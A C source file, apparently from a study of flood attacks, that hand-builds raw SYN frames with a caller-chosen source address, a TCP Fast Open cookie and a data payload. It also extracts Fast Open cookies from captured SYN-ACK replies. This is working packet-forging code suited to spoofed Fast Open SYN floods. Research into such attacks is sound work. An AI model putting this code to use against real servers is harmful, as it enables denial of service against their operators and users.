/*
 * study/flood/forge.c: headers by hand, and their checksums.
 */
#include "study/flood/forge.h"

#include <string.h>

enum { ETHER = 14, IP = 20, TCP = 20, ETHER_IP4_TYPE = 0x0800, FAST_OPEN = 34 };

static uint8_t *put16(uint8_t *at, uint32_t value)
{
    at[0] = (uint8_t)(value >> 8);
    at[1] = (uint8_t)value;
    return at + 2;
}

static uint8_t *put32(uint8_t *at, uint32_t value)
{
    return put16(put16(at, value >> 16), value & 0xffff);
}

static uint32_t get16(const uint8_t *at)
{
    return (uint32_t)at[0] << 8 | at[1];
}

static uint32_t get32(const uint8_t *at)
{
    return get16(at) << 16 | get16(at + 2);
}

static uint32_t add(uint32_t sum, const uint8_t *bytes, size_t n)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        sum += get16(bytes + i);
    return n % 2 ? sum + ((uint32_t)bytes[n - 1] << 8) : sum;
}

static uint32_t finish(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return ~sum & 0xffff;
}

/* Those of a client of today, and Fast Open's. Their length is a multiple of four. */
static size_t put_options(const struct forge *forge, uint32_t seq, uint8_t *at)
{
    const uint8_t *begin = at;

    at = put32(at, 0x020405b4);                   /* MSS 1460 */
    at = put16(at, 0x0402);                       /* SACK permitted */
    at = put32(put32(put16(at, 0x080a), seq), 0); /* timestamps: any will do */
    at = put32(at, 0x01030307);                   /* no operation, window scale 7 */
    *at++ = FAST_OPEN;
    *at++ = (uint8_t)(2 + forge->cookie_len);
    memcpy(at, forge->cookie, forge->cookie_len);
    at += forge->cookie_len;
    while ((at - begin) % 4)
        *at++ = 1;
    return (size_t)(at - begin);
}

size_t forge_syn(const struct forge *forge, uint32_t source, uint16_t port, uint32_t seq,
                 uint8_t frame[FORGE_FRAME_MAX])
{
    uint8_t *ip = frame + ETHER, *tcp = ip + IP;
    size_t options = put_options(forge, seq, tcp + TCP);
    size_t segment = TCP + options + forge->text_len;

    memcpy(frame, forge->to_hw, 6);
    memcpy(frame + 6, forge->from_hw, 6);
    put16(frame + 12, ETHER_IP4_TYPE);
    put32(put32(put32(ip, 0x45000000u | (uint32_t)(IP + segment)), 0x4000), 0x40060000);
    put32(put32(ip + 12, source), forge->to);
    put16(ip + 10, finish(add(0, ip, IP)));
    put32(put32(put16(put16(tcp, port), forge->to_port), seq), 0);
    put32(tcp + 12, (uint32_t)((TCP + options) / 4 << 28) | 0x0002ffff); /* SYN; a full window */
    put32(tcp + 16, 0);
    memcpy(tcp + TCP + options, forge->text, forge->text_len);
    put16(tcp + 16, finish(add(add(6 + (uint32_t)segment, ip + 12, 8), tcp, segment)));
    return ETHER + IP + segment;
}

size_t forge_find_cookie(const uint8_t *frame, size_t len, uint32_t source, const uint8_t **cookie)
{
    const uint8_t *ip = frame + ETHER;
    size_t header = len >= ETHER + IP ? (size_t)(ip[0] & 15) * 4 : 0;

    if (header < IP || len < ETHER + header + TCP || get16(frame + 12) != ETHER_IP4_TYPE ||
        ip[9] != 6 || get32(ip + 16) != source)
        return 0;
    const uint8_t *tcp = ip + header, *end = tcp + (size_t)(tcp[12] >> 4) * 4;
    if ((tcp[13] & 0x12) != 0x12 || end > frame + len)
        return 0;
    for (const uint8_t *at = tcp + TCP; at < end && *at != 0; at += *at == 1 ? 1 : at[1]) {
        if (*at == 1)
            continue;
        if (end - at < 2 || at[1] < 2 || at[1] > end - at)
            return 0;
        *cookie = at + 2;
        if (*at == FAST_OPEN && at[1] > 2)
            return at[1] - 2u <= FORGE_COOKIE_MAX ? at[1] - 2u : 0;
    }
    return 0;
}
